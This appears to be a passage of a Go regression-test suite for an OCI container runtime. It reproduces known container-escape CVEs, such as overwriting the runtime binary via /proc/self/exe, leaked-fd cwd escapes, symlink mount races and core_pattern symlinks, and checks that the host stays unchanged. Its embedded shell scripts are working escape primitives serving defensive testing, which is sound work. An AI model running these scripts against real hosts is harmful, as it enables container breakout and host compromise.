// Regression tests for the known escapes of OCI runtimes
// (../shared/reference/oci-runtime.md, issue 6 item 3). Each test sets the
// attack up from inside a real container (a malicious rootfs, a hostile
// process, or a racing container sharing a volume) and asserts that the
// host is untouched. Every test says what a vulnerable runtime would do and
// which assertion catches it.

package tests

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"
)

// Bounds of the racing tests: whichever is reached first.
const (
	cveRaceIterations = 150
	cveRaceDuration   = 10 * time.Second
)

// cveDir makes a host directory (a "volume") under the suite's temp dir,
// removed at cleanup without following anything mounted below it.
func cveDir(t *testing.T, name string) string {
	t.Helper()
	dir := filepath.Join(baseDir, fmt.Sprintf("cve-%s-%d", name, time.Now().UnixNano()))
	if err := os.Mkdir(dir, 0o777); err != nil {
		t.Fatal(err)
	}
	os.Chmod(dir, 0o777)
	t.Cleanup(func() {
		if err := removeAllNoMounts(dir); err != nil {
			t.Errorf("remove %s: %v", dir, err)
		}
	})
	return dir
}

// cveBind is a read-write recursive bind mount of a host path.
func cveBind(src, dst string) specs.Mount {
	return specs.Mount{Destination: dst, Type: "bind", Source: src, Options: []string{"rbind", "rw"}}
}

// withMounts appends mounts to the config's list.
func withMounts(ms ...specs.Mount) func(*specs.Spec) {
	return func(s *specs.Spec) { s.Mounts = append(s.Mounts, ms...) }
}

// withMountsFirst puts mounts before the default ones (so /proc, /dev, ...
// are resolved through them).
func withMountsFirst(ms ...specs.Mount) func(*specs.Spec) {
	return func(s *specs.Spec) { s.Mounts = append(append([]specs.Mount{}, ms...), s.Mounts...) }
}

// withoutMount drops the config mount at dest (e.g. the /dev tmpfs, so /dev
// is the rootfs's own directory, which the image controls).
func withoutMount(dest string) func(*specs.Spec) {
	return func(s *specs.Spec) {
		var keep []specs.Mount
		for _, m := range s.Mounts {
			if m.Destination != dest {
				keep = append(keep, m)
			}
		}
		s.Mounts = keep
	}
}

// withSysctl sets linux.sysctl key=val.
func withSysctl(key, val string) func(*specs.Spec) {
	return func(s *specs.Spec) {
		if s.Linux.Sysctl == nil {
			s.Linux.Sysctl = map[string]string{}
		}
		s.Linux.Sysctl[key] = val
	}
}

// rootfsPath is path inside the bundle's rootfs. The rootfs is a hard-link
// copy of the suite's: replace entries (unlink, create), never write a file
// in place, or every bundle would see the change.
func (b *bundle) rootfsPath(path string) string {
	return filepath.Join(b.Dir, "rootfs", path)
}

// plant replaces path in the rootfs with a symlink to target.
func (b *bundle) plantSymlink(path, target string) {
	b.t.Helper()
	p := b.rootfsPath(path)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		b.t.Fatal(err)
	}
	os.RemoveAll(p)
	if err := os.Symlink(target, p); err != nil {
		b.t.Fatal(err)
	}
}

// plantFile replaces path in the rootfs with a new regular file.
func (b *bundle) plantFile(path, content string) {
	b.t.Helper()
	p := b.rootfsPath(path)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		b.t.Fatal(err)
	}
	os.RemoveAll(p)
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		b.t.Fatal(err)
	}
}

// cveRacer starts a detached container running script, with the host
// directory dir bind-mounted at /shared: the attacker's half of a race.
func cveRacer(t *testing.T, dir, script string) *bundle {
	t.Helper()
	b := newBundle(t, shell(script), withMounts(cveBind(dir, "/shared")))
	b.detached("run", "-d").mustOK(t)
	return b
}

// race runs one container attempt per call to attempt until the bounds of
// the racing tests; attempt returns whether the runtime accepted it.
func race(t *testing.T, attempt func(i int) (bool, string)) (ok, refused int) {
	t.Helper()
	reasons := map[string]int{}
	deadline := time.Now().Add(cveRaceDuration)
	for i := 0; i < cveRaceIterations && time.Now().Before(deadline); i++ {
		accepted, why := attempt(i)
		if accepted {
			ok++
		} else {
			refused++
			reasons[refusal(why)]++
		}
		if t.Failed() {
			break
		}
	}
	t.Logf("race: %d attempts accepted, %d refused by the runtime", ok, refused)
	for why, n := range reasons {
		t.Logf("  %3d refused: %s", n, why)
	}
	return ok, refused
}

var refusalNoise = regexp.MustCompile(`time="[^"]*" |create container [^:]*: |CVE[0-9_A-Za-z-]*-[0-9]+`)

// refusal is the runtime's error message without what differs per attempt.
func refusal(stderr string) string {
	return strings.TrimSpace(refusalNoise.ReplaceAllString(stderr, ""))
}

// hostMounts is the set of mount points of the test's (the host's) mount
// namespace.
func hostMounts() map[string]bool {
	m := map[string]bool{}
	for _, p := range mountpoints() {
		m[p] = true
	}
	return m
}

// assertNoNewHostMounts fails for any mount point the host gained since
// before: a container's mounts live in its own mount namespace, so a new
// one on the host means a mount escaped.
func assertNoNewHostMounts(t *testing.T, before map[string]bool) {
	t.Helper()
	for _, p := range mountpoints() {
		if !before[p] {
			t.Errorf("a mount landed on the host: %s", p)
		}
	}
}

// treeListing describes every entry below dir (path, type, and content of
// regular files) so a test can prove a host directory is unchanged.
func treeListing(t *testing.T, dir string) string {
	t.Helper()
	var lines []string
	filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			lines = append(lines, fmt.Sprintf("%s: %v", p, err))
			return nil
		}
		rel, _ := filepath.Rel(dir, p)
		line := fmt.Sprintf("%s %s", rel, fi.Mode().Type())
		if fi.Mode().IsRegular() {
			data, _ := os.ReadFile(p)
			line += " " + strconv.Quote(string(data))
		}
		if fi.Mode()&os.ModeSymlink != 0 {
			l, _ := os.Readlink(p)
			line += " -> " + l
		}
		lines = append(lines, line)
		return nil
	})
	sort.Strings(lines)
	return strings.Join(lines, "\n")
}

func sha256File(t *testing.T, path string) string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	h := sha256.New()
	if _, err := io.Copy(h, f); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(h.Sum(nil))
}

// nsPid is the pid of a host process as its own pid namespace sees it.
func nsPid(t *testing.T, hostPid int) string {
	t.Helper()
	st, err := readProcStatus(hostPid)
	if err != nil {
		t.Fatal(err)
	}
	f := strings.Fields(st["NSpid"])
	if len(f) == 0 {
		t.Fatalf("no NSpid for %d", hostPid)
	}
	return f[len(f)-1]
}

func readPidFile(t *testing.T, path string) int {
	t.Helper()
	pid, err := strconv.Atoi(strings.TrimSpace(mustRead(t, path)))
	if err != nil {
		t.Fatalf("pid file %s: %v", path, err)
	}
	return pid
}

// waitFile waits for path to exist.
func waitFile(t *testing.T, path string, timeout time.Duration) {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		if _, err := os.Stat(path); err == nil {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s never appeared", path)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// lineValue returns the value of the first "key=value" line of out.
func lineValue(out, key string) (string, bool) {
	for _, l := range strings.Split(out, "\n") {
		if v, ok := strings.CutPrefix(strings.TrimSpace(l), key+"="); ok {
			return v, true
		}
	}
	return "", false
}

// TestCVE2019_5736OverwriteRuntime: the container gets rt executed inside
// it (here `rt exec CTR /proc/self/exe ...`, the same primitive as the
// original exploit's `#!/proc/self/exe` entrypoint: the kernel runs the exe
// of the process doing the exec, i.e. rt), grabs a handle on that process's
// /proc/PID/exe while it runs, and once it has exited reopens the handle
// for writing through /proc/self/fd to overwrite the host's rt.
//
// A vulnerable runtime (one that execs its own binary, not a sealed copy)
// gives the container a handle on the host's rt: the write while it runs
// fails with ETXTBSY but the one after its exit succeeds, so the container
// reports WROTE and the binary's sha256 changes (the attack appends, so the
// suite's binary still works afterwards). rt's sealed read-only bind makes
// both writes fail with EROFS.
func TestCVE2019_5736OverwriteRuntime(t *testing.T) {
	before := sha256File(t, runtimeBin)
	b := runningBundle(t)
	initPid := b.mustState().Pid
	shm := fmt.Sprintf("/proc/%d/root/dev/shm", initPid)

	// The victim: rt, run in the container, blocked reading its stdin
	// (`update --resources -` reads it before looking up the container).
	pr, pw, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer pw.Close()
	victimPidFile := filepath.Join(b.Dir, "victim.pid")
	r := rtWith(t, cmdOpts{stdin: pr}, "exec", "-d", "--pid-file", victimPidFile, b.ID,
		"/proc/self/exe", "update", "--resources", "-", "no-such-container")
	pr.Close()
	r.mustOK(t)
	victim := readPidFile(t, victimPidFile)
	b.execPids = append(b.execPids, victim)
	exe, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", victim))
	if strings.HasSuffix(exe, "busybox") {
		t.Fatalf("the victim runs %s, not rt: the test would be vacuous", exe)
	}

	// The attacker, detached so that no rt process of ours is left running
	// the binary while it tries (which alone would give ETXTBSY).
	script := fmt.Sprintf(`P=%s
exec 3</proc/$P/exe || { echo no-handle > /dev/shm/log; touch /dev/shm/opened /dev/shm/done; exit 0; }
echo "handle=$(readlink /proc/self/fd/3)" > /dev/shm/log
if (echo PWNED >>/proc/$P/exe) 2>/dev/shm/err; then echo WROTE-while-running >> /dev/shm/log; fi
echo "while-running=$(cat /dev/shm/err)" >> /dev/shm/log
touch /dev/shm/opened
while readlink /proc/$P/exe >/dev/null 2>&1; do sleep 0.02; done
i=0
while [ $i -lt 50 ]; do
	if (echo PWNED >>/proc/self/fd/3) 2>/dev/shm/err; then echo WROTE-after-exit >> /dev/shm/log; break; fi
	i=$((i+1)); sleep 0.02
done
echo "after-exit=$(cat /dev/shm/err)" >> /dev/shm/log
touch /dev/shm/done
`, nsPid(t, victim))
	attPidFile := filepath.Join(b.Dir, "attacker.pid")
	rt(t, "exec", "-d", "--pid-file", attPidFile, b.ID, "sh", "-c", script).mustOK(t)
	b.execPids = append(b.execPids, readPidFile(t, attPidFile))

	waitFile(t, shm+"/opened", 10*time.Second)
	pw.Close() // the victim reads EOF, fails and exits
	if err := reapGone(victim, 10*time.Second); err != nil {
		t.Fatal(err)
	}
	waitFile(t, shm+"/done", 10*time.Second)
	log := mustRead(t, shm+"/log")
	t.Logf("attacker:\n%s", log)
	if strings.Contains(log, "no-handle") {
		t.Fatalf("the container could not open the victim's /proc/PID/exe: the test would be vacuous")
	}
	if strings.Contains(log, "WROTE") {
		t.Errorf("the container wrote to the rt binary it was run from")
	}
	for _, k := range []string{"while-running", "after-exit"} {
		v, _ := lineValue(log, k)
		if !strings.Contains(v, "Read-only file system") && !strings.Contains(v, "Text file busy") {
			t.Errorf("%s: opening rt's exe for writing failed with %q, want EROFS or ETXTBSY", k, v)
		}
	}
	if after := sha256File(t, runtimeBin); after != before {
		t.Errorf("the host's rt binary %s changed: sha256 %s, was %s", runtimeBin, after, before)
	}
}

// cwdEscapeScript reports where the process's cwd really is: its path
// (getcwd says "(unreachable)" outside the root), the directory reached by
// climbing ".." physically from it (the container's "/" when the cwd is
// inside the root; the host's "/" when it is not, since ".." only stops at
// the root the walk passes through), and the fds the shell holds.
const cwdEscapeScript = `echo "pwd=$(pwd -P 2>&1)"
i=0; while [ $i -lt 64 ]; do cd -P .. 2>/dev/null; i=$((i+1)); done
echo "top=$(stat -c %d:%i .)"
echo "root=$(stat -c %d:%i /)"
ls -l /proc/$$/fd`

// checkCwdEscape checks cwdEscapeScript's output.
func checkCwdEscape(t *testing.T, out string) {
	t.Helper()
	pwd, _ := lineValue(out, "pwd")
	top, _ := lineValue(out, "top")
	root, _ := lineValue(out, "root")
	if !strings.HasPrefix(pwd, "/") {
		t.Errorf("the process's cwd is outside the container's root: getcwd %q\n%s", pwd, out)
	}
	if top == "" || top != root {
		t.Errorf("climbing .. from the cwd reached %s, not the container's / (%s): the cwd is on the host\n%s", top, root, out)
	}
	// ls -l's "N -> target" lines (a loop with $(readlink) would list
	// the shell's own pipe).
	for _, l := range strings.Split(out, "\n") {
		f := strings.Fields(l)
		if len(f) >= 3 && f[len(f)-2] == "->" {
			if n, err := strconv.Atoi(f[len(f)-3]); err == nil && n > 2 {
				t.Errorf("the container's process holds fd %d (%s): a runtime fd leaked\n%s", n, f[len(f)-1], out)
			}
		}
	}
}

// TestCVE2024_21626LeakedFdCwd: process.cwd "/proc/self/fd/N" makes the
// runtime chdir through whatever its fd N is at that moment. A vulnerable
// runtime that leaks a host directory fd into init (runc leaked a
// /sys/fs/cgroup handle) starts the process with a cwd on the host: getcwd
// says "(unreachable)", climbing ".." reaches the host's root instead of the
// container's, and the fd itself is visible in /proc/self/fd. Each N must
// either be refused, or leave the process inside the root with no fd but
// 0-2. Checked for the container's process and for exec.
func TestCVE2024_21626LeakedFdCwd(t *testing.T) {
	for n := 3; n <= 10; n++ {
		cwd := fmt.Sprintf("/proc/self/fd/%d", n)
		t.Run("run-"+strconv.Itoa(n), func(t *testing.T) {
			b := newBundle(t, shell(cwdEscapeScript), func(s *specs.Spec) { s.Process.Cwd = cwd })
			r := b.run()
			if !r.ok() {
				t.Logf("refused: %s", strings.TrimSpace(r.stderr))
				assertNothingLeft(t, b)
				return
			}
			checkCwdEscape(t, r.stdout)
		})
	}
	b := runningBundle(t)
	for n := 3; n <= 10; n++ {
		r := rt(t, "exec", "--cwd", fmt.Sprintf("/proc/self/fd/%d", n), b.ID, "sh", "-c", cwdEscapeScript)
		if !r.ok() {
			t.Logf("exec cwd fd %d refused: %s", n, strings.TrimSpace(r.stderr))
			continue
		}
		checkCwdEscape(t, r.stdout)
	}
}

// TestCVE2024_21626CwdSwappedToProcSelf: while containers start, a process
// sharing the rootfs (here the test) keeps exchanging the directory
// process.cwd names with a symlink to /proc/self/cwd. The runtime checks
// the cwd on one thread or process, and the process that execs the
// program changes to it again: if that process still had a host
// directory as its cwd (rt's own, before pivot_root), the swap would
// leave the program there. Every start must be refused or leave the
// process inside the root.
func TestCVE2024_21626CwdSwappedToProcSelf(t *testing.T) {
	b := newBundle(t, shell(cwdEscapeScript), func(s *specs.Spec) { s.Process.Cwd = "/w" })
	dir, link := b.rootfsPath("/w"), b.rootfsPath("/w.lnk")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/proc/self/cwd", link); err != nil {
		t.Fatal(err)
	}
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			select {
			case <-stop:
				return
			default:
			}
			unix.Renameat2(unix.AT_FDCWD, dir, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE)
		}
	}()
	defer func() {
		close(stop)
		<-done
	}()
	ok, refused := 0, 0
	deadline := time.Now().Add(cveRaceDuration)
	for i := 0; i < 60 && time.Now().Before(deadline); i++ {
		r := b.run()
		if !r.ok() {
			refused++
			assertNothingLeft(t, b)
			continue
		}
		ok++
		checkCwdEscape(t, r.stdout)
		if t.Failed() {
			break
		}
	}
	t.Logf("%d started inside the root, %d refused", ok, refused)
	if ok == 0 {
		t.Error("no start succeeded: the race tested nothing")
	}
}

// TestCVE2021_30465MountDestSymlinkRace: a container sharing a volume with
// the next one swaps a directory of that volume between a symlink to a host
// path and a symlink to /tmp while containers mounting a tmpfs there are
// created. A vulnerable runtime resolves the destination on the host (or
// checks it, then mounts by path after the swap) and mounts the tmpfs on
// the host directory H: H is also bind-mounted (recursively, later) into
// the container, so its marker disappears under the tmpfs there and the
// tmpfs shows at /hostview in the container's mountinfo; a mount landing in
// the host's namespace shows in the host's mountinfo.
func TestCVE2021_30465MountDestSymlinkRace(t *testing.T) {
	before := hostMounts()
	shared := cveDir(t, "shared")
	host := cveDir(t, "hostview")
	if err := os.WriteFile(filepath.Join(host, "marker"), []byte("host-marker"), 0o644); err != nil {
		t.Fatal(err)
	}
	hostBefore := treeListing(t, host)
	cveRacer(t, shared, fmt.Sprintf(`cd /shared
while :; do
	[ -L x ] || rm -rf x
	ln -sfn %s x
	ln -sfn /tmp x
done`, host))
	const marker = "size=777k"
	b := newBundle(t, shell(`cat /hostview/marker; echo; grep 'size=777k' /proc/self/mountinfo; true`), withMounts(
		cveBind(shared, "/shared"),
		specs.Mount{Destination: "/shared/x", Type: "tmpfs", Source: "tmpfs", Options: []string{"size=777k"}},
		cveBind(host, "/hostview"),
	))
	race(t, func(i int) (bool, string) {
		r := b.run()
		if !r.ok() {
			return false, r.stderr + r.stdout
		}
		mustContain(t, "the host directory as the container sees it", r.stdout, "host-marker")
		if !strings.Contains(r.stdout, marker) {
			// rt made x a directory in a moment it was missing, and the
			// racer's rm -rf x then unmounted the tmpfs (the kernel detaches
			// mounts on a removed directory in every namespace).
			t.Logf("attempt %d: the tmpfs was mounted on a directory the racer removed since", i)
		}
		for _, l := range strings.Split(r.stdout, "\n") {
			if !strings.Contains(l, marker) {
				continue
			}
			f := strings.Fields(l)
			if point := unescapeMount(f[4]); point != "/shared/x" && point != "/tmp" {
				t.Errorf("attempt %d: the tmpfs for /shared/x landed on %s:\n%s", i, point, r.stdout)
			}
		}
		return true, ""
	})
	if got := treeListing(t, host); got != hostBefore {
		t.Errorf("the host directory changed:\n%s\nwas:\n%s", got, hostBefore)
	}
	assertNoNewHostMounts(t, before)
}

// TestCVE2024_45310RacingMountCreatesHostFiles: a container sharing a volume
// swaps a directory of it between a real directory, an absolute symlink to
// a host directory H and a relative "../../.." symlink to H, while
// containers are created whose mounts need directories and a file created
// below it. A vulnerable runtime (mkdir -p / create through the symlink on
// the host) creates newdir/sub and newfile inside H, on the host: H must
// stay empty.
func TestCVE2024_45310RacingMountCreatesHostFiles(t *testing.T) {
	before := hostMounts()
	shared := cveDir(t, "shared")
	host := cveDir(t, "victim")
	src := filepath.Join(cveDir(t, "src"), "file")
	if err := os.WriteFile(src, []byte("bind-source"), 0o644); err != nil {
		t.Fatal(err)
	}
	rel := strings.Repeat("../", 24) + strings.TrimPrefix(host, "/")
	cveRacer(t, shared, fmt.Sprintf(`cd /shared
while :; do
	rm -rf y; ln -s %s y
	rm -rf y; ln -s %s y
	rm -rf y; mkdir y
done`, host, rel))
	b := newBundle(t, args("true"), withMounts(
		cveBind(shared, "/shared"),
		specs.Mount{Destination: "/shared/y/newdir/sub", Type: "tmpfs", Source: "tmpfs"},
		specs.Mount{Destination: "/shared/y/newfile", Type: "bind", Source: src, Options: []string{"bind"}},
	))
	race(t, func(i int) (bool, string) {
		r := b.run()
		if entries, _ := os.ReadDir(host); len(entries) > 0 {
			t.Errorf("attempt %d: the runtime created files in the host directory %s:\n%s", i, host, treeListing(t, host))
		}
		return r.ok(), r.stderr
	})
	assertNoNewHostMounts(t, before)
}

// corePattern is the host's kernel.core_pattern (a global sysctl: a
// container that can write it runs code on the host at the next crash).
func corePattern(t *testing.T) string {
	t.Helper()
	return mustRead(t, "/proc/sys/kernel/core_pattern")
}

// maskCheckScript reports what the container's masked files and
// core_pattern are.
const maskCheckScript = `for p in /proc/keys /proc/timer_list; do [ -e $p ] && echo "mask $p $(stat -c '%F %t:%T' $p)"; done
echo "keys-content=$(timeout 2 head -c 200 /proc/keys | tr '\n' ' ')"
` + corePatternWriteScript

// corePatternWriteScript tries to write core_pattern, writing back the
// value it reads (so even a successful write changes nothing): busybox's
// test -w is always true for root, whatever the mount says. Reads time out:
// a vulnerable runtime may have put a pty or a fifo there.
// The directory is pinned as the cwd and checked to be procfs first, so a
// racing swap cannot turn the probe into a write elsewhere.
const corePatternWriteScript = `(cd /proc/sys/kernel && [ "$(stat -f -c %T .)" = proc ] &&
	v=$(timeout 2 cat core_pattern) && printf '%s\n' "$v" > core_pattern) 2>&- && echo CORE-PATTERN-WRITABLE
true`

// checkMasks checks maskCheckScript's output: every masked file is the null
// device, and core_pattern cannot be written.
func checkMasks(t *testing.T, out string) {
	t.Helper()
	n := 0
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, "mask ") {
			n++
			if !strings.HasSuffix(l, "character special file 1:3") {
				t.Errorf("a masked path is not the null device: %s", l)
			}
		}
	}
	if n == 0 {
		t.Errorf("no masked path found in the container:\n%s", out)
	}
	if v, _ := lineValue(out, "keys-content"); strings.TrimSpace(v) != "" {
		t.Errorf("masked /proc/keys has content %q", v)
	}
	if strings.Contains(out, "CORE-PATTERN-WRITABLE") {
		t.Errorf("the host's core_pattern is writable from the container:\n%s", out)
	}
}

// TestCVE2025_31133DevNullSymlink: the image's /dev/null is a symlink to
// /proc/sys/kernel/core_pattern (or a regular file), and /dev is the
// image's own directory, not a tmpfs, so the runtime masks with the
// image's /dev/null. A vulnerable runtime bind-mounts the symlink's target
// over the masked paths: /proc/keys then is core_pattern (a regular file
// with the host's core_pattern in it, writable if the target's mount is),
// caught by the "not the null device" and content checks; the host's
// core_pattern must stay the same. rt may refuse the container instead.
func TestCVE2025_31133DevNullSymlink(t *testing.T) {
	pattern := corePattern(t)
	cases := map[string]func(b *bundle){
		"symlink to core_pattern":   func(b *bundle) { b.plantSymlink("/dev/null", "/proc/sys/kernel/core_pattern") },
		"relative symlink":          func(b *bundle) { b.plantSymlink("/dev/null", "../proc/sys/kernel/core_pattern") },
		"regular file":              func(b *bundle) { b.plantFile("/dev/null", "not-the-null-device") },
		"symlink to sysrq-trigger":  func(b *bundle) { b.plantSymlink("/dev/null", "/proc/sysrq-trigger") },
		"symlink to a proc dir":     func(b *bundle) { b.plantSymlink("/dev/null", "/proc/sys/kernel") },
		"symlink to /dev/zero":      func(b *bundle) { b.plantSymlink("/dev/null", "/dev/zero") },
		"dangling symlink":          func(b *bundle) { b.plantSymlink("/dev/null", "/nonexistent") },
		"fifo":                      func(b *bundle) { mkfifo(b, "/dev/null") },
		"control: real /dev/null":   func(b *bundle) {},
		"control: /dev/null absent": func(b *bundle) { os.Remove(b.rootfsPath("/dev/null")) },
	}
	for name, plant := range cases {
		t.Run(name, func(t *testing.T) {
			b := newBundle(t, shell(maskCheckScript), withoutMount("/dev"))
			plant(b)
			r := b.run()
			if !r.ok() {
				if strings.HasPrefix(name, "control") {
					t.Fatalf("the control container failed: %s", r)
				}
				t.Logf("refused: %s", strings.TrimSpace(r.stderr))
				assertNothingLeft(t, b)
			} else {
				checkMasks(t, r.stdout)
			}
			if got := corePattern(t); got != pattern {
				t.Errorf("the host's core_pattern changed to %q (was %q)", got, pattern)
			}
		})
	}
}

func mkfifo(b *bundle, path string) {
	b.t.Helper()
	p := b.rootfsPath(path)
	os.MkdirAll(filepath.Dir(p), 0o755)
	os.RemoveAll(p)
	if err := unix.Mkfifo(p, 0o666); err != nil {
		b.t.Fatal(err)
	}
}

// TestCVE2025_52565ConsoleSymlink: with process.terminal the runtime binds
// the pty slave onto /dev/console and opens /dev/ptmx, both in a /dev the
// image controls here (no /dev tmpfs). A vulnerable runtime follows the
// image's /dev/console symlink and binds the pty over a procfs file (or
// binds the procfs file as the console), or takes a /dev/pts/ptmx symlink
// for the pty multiplexer: the container's /dev/console is then not a pty
// on devpts (checked in its mountinfo and with stat), and core_pattern must
// stay unchanged and read-only. rt may refuse the container instead.
func TestCVE2025_52565ConsoleSymlink(t *testing.T) {
	pattern := corePattern(t)
	script := `[ -L /dev/console ] && echo CONSOLE-IS-SYMLINK
echo "console=$(stat -L -c '%F %t' /dev/console)"
echo "tty=$(tty)"
grep ' /dev/console ' /proc/self/mountinfo | sed 's/^/mnt=/'
` + corePatternWriteScript
	cases := map[string]func(b *bundle){
		"console symlink to core_pattern":  func(b *bundle) { b.plantSymlink("/dev/console", "/proc/sys/kernel/core_pattern") },
		"console symlink to /dev/pts/ptmx": func(b *bundle) { b.plantSymlink("/dev/console", "/dev/pts/ptmx") },
		"console regular file":             func(b *bundle) { b.plantFile("/dev/console", "fake console") },
		"control":                          func(b *bundle) {},
	}
	for name, plant := range cases {
		t.Run(name, func(t *testing.T) {
			b := newBundle(t, shell(script), withoutMount("/dev"), func(s *specs.Spec) { s.Process.Terminal = true })
			plant(b)
			consoleRun(t, b, name == "control", func(out string) {
				console, _ := lineValue(out, "console")
				if f := strings.Fields(console); len(f) == 0 || !strings.HasPrefix(console, "character special file") ||
					!oneOf(f[len(f)-1], []string{"88", "89", "8a", "8b", "8c", "8d", "8e", "8f"}) {
					t.Errorf("/dev/console is not a pty slave: %q\n%s", console, out)
				}
				mnt, _ := lineValue(out, "mnt")
				if !strings.Contains(mnt, " - devpts ") {
					t.Errorf("/dev/console is not bound from devpts: %q\n%s", mnt, out)
				}
				if strings.Contains(out, "CORE-PATTERN-WRITABLE") {
					t.Errorf("core_pattern is writable in the container:\n%s", out)
				}
				if strings.Contains(out, "CONSOLE-IS-SYMLINK") {
					t.Errorf("/dev/console is still the image's symlink:\n%s", out)
				}
			})
			if got := corePattern(t); got != pattern {
				t.Errorf("the host's core_pattern changed to %q (was %q)", got, pattern)
			}
		})
	}
	// The image's devpts is replaced too: no devpts mount, and /dev/pts/ptmx
	// (where /dev/ptmx points) a symlink to a procfs file.
	t.Run("ptmx symlink to core_pattern", func(t *testing.T) {
		b := newBundle(t, shell(script), withoutMount("/dev"), withoutMount("/dev/pts"),
			func(s *specs.Spec) { s.Process.Terminal = true })
		b.plantSymlink("/dev/pts/ptmx", "/proc/sys/kernel/core_pattern")
		consoleRun(t, b, false, func(out string) {
			t.Errorf("the runtime used a /dev/pts/ptmx that is a symlink to core_pattern:\n%s", out)
		})
		if got := corePattern(t); got != pattern {
			t.Errorf("the host's core_pattern changed to %q (was %q)", got, pattern)
		}
	})
}

// consoleRun creates b with a console socket and, if create succeeds,
// starts it and hands the terminal output to check. A refused create must
// leave nothing behind; mustWork fails the test on a refusal.
func consoleRun(t *testing.T, b *bundle, mustWork bool, check func(out string)) {
	t.Helper()
	cs := newConsoleSocket(t)
	r := b.create("--console-socket", cs.path)
	if !r.ok() {
		if mustWork {
			t.Fatalf("create failed: %s", r)
		}
		t.Logf("refused: %s", strings.TrimSpace(r.stderr))
		assertNothingLeft(t, b)
		return
	}
	master := cs.receive(t)
	rt(t, "start", b.ID).mustOK(t)
	out := strings.ReplaceAll(readAll(t, master, 10*time.Second), "\r\n", "\n")
	b.waitStatus("stopped")
	rt(t, "delete", b.ID).mustOK(t)
	check(out)
}

// capBits is the /proc/PID/status mask of capabilities.
func capBits(caps ...int) string {
	var m uint64
	for _, c := range caps {
		m |= 1 << c
	}
	return fmt.Sprintf("%016x", m)
}

// setFileCaps gives path file capabilities (VFS_CAP_REVISION_2): inheritable
// inh, no permitted, the effective bit set, as `setcap cap_x+ie` does.
func setFileCaps(path string, inh ...int) error {
	var data [20]byte
	binary.LittleEndian.PutUint32(data[0:], 0x02000000|0x1) // VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE
	var m uint64
	for _, c := range inh {
		m |= 1 << c
	}
	binary.LittleEndian.PutUint32(data[8:], uint32(m))      // data[0].inheritable
	binary.LittleEndian.PutUint32(data[16:], uint32(m>>32)) // data[1].inheritable
	return unix.Setxattr(path, "security.capability", data[:], 0)
}

// TestCVE2022_29162InheritableCaps: a non-root process (uid 1000) gets the
// inheritable set the config asks, nothing more, and no permitted or
// effective capability from a plain exec. A vulnerable runtime fills the
// inheritable set (runc used the bounding set) without being asked: CapInh
// is then not what was asked, and exec'ing a binary with inheritable file
// capabilities (the image's /capdir/grep, cap_dac_override+cap_net_raw+ie)
// grants them (P' = pI & fI), seen as non-zero CapPrm/CapEff. The case
// that asks for cap_net_raw proves the file capabilities work here: there
// exactly cap_net_raw must come through the file.
func TestCVE2022_29162InheritableCaps(t *testing.T) {
	const dacOverride, netRaw, kill = 1, 13, 5
	script := `grep Cap /proc/self/status | sed 's/^/plain-/'; /capdir/grep Cap /proc/self/status | sed 's/^/file-/'`
	setup := func(inh []string) func(*specs.Spec) {
		return func(s *specs.Spec) {
			all := []string{"CAP_DAC_OVERRIDE", "CAP_NET_RAW", "CAP_KILL", "CAP_AUDIT_WRITE", "CAP_NET_BIND_SERVICE"}
			s.Process.User = specs.User{UID: 1000, GID: 1000}
			s.Process.NoNewPrivileges = false // no_new_privs would hide file capabilities
			s.Process.Capabilities = &specs.LinuxCapabilities{Bounding: all, Effective: all, Permitted: all, Inheritable: inh}
		}
	}
	status := func(out, prefix string) map[string]string {
		m := map[string]string{}
		for _, l := range strings.Split(out, "\n") {
			if rest, ok := strings.CutPrefix(l, prefix); ok {
				k, v, _ := strings.Cut(rest, ":")
				m[k] = strings.TrimSpace(v)
			}
		}
		return m
	}
	for _, c := range []struct {
		name     string
		inh      []string
		wantInh  string
		wantFile string // CapPrm after exec of the file-capability binary
	}{
		{"no inheritable asked", nil, capBits(), capBits()},
		{"cap_net_raw inheritable", []string{"CAP_NET_RAW"}, capBits(netRaw), capBits(netRaw)},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := newBundle(t, shell(script), setup(c.inh))
			bb := b.rootfsPath("/capdir/grep")
			os.MkdirAll(filepath.Dir(bb), 0o755)
			data, err := os.ReadFile(b.rootfsPath("/bin/busybox"))
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(bb, data, 0o755); err != nil {
				t.Fatal(err)
			}
			fileCaps := setFileCaps(bb, dacOverride, netRaw, kill) == nil
			if !fileCaps {
				t.Log("no file capabilities on this filesystem: checking the process's sets only")
			}
			out := b.output()
			plain, file := status(out, "plain-"), status(out, "file-")
			if plain["CapInh"] != c.wantInh {
				t.Errorf("CapInh %s, want %s (what the config asks)\n%s", plain["CapInh"], c.wantInh, out)
			}
			for _, k := range []string{"CapPrm", "CapEff", "CapAmb"} {
				if plain[k] != capBits() {
					t.Errorf("uid 1000 after exec: %s %s, want none\n%s", k, plain[k], out)
				}
			}
			if !fileCaps {
				return
			}
			if file["CapPrm"] != c.wantFile || file["CapEff"] != c.wantFile {
				t.Errorf("after exec of a binary with inheritable file capabilities: CapPrm %s CapEff %s, want %s\n%s",
					file["CapPrm"], file["CapEff"], c.wantFile, out)
			}
		})
	}
}

// procCheckScript reports what the container's /proc is: the filesystem
// type, the sysctl the config set (in the container's own network
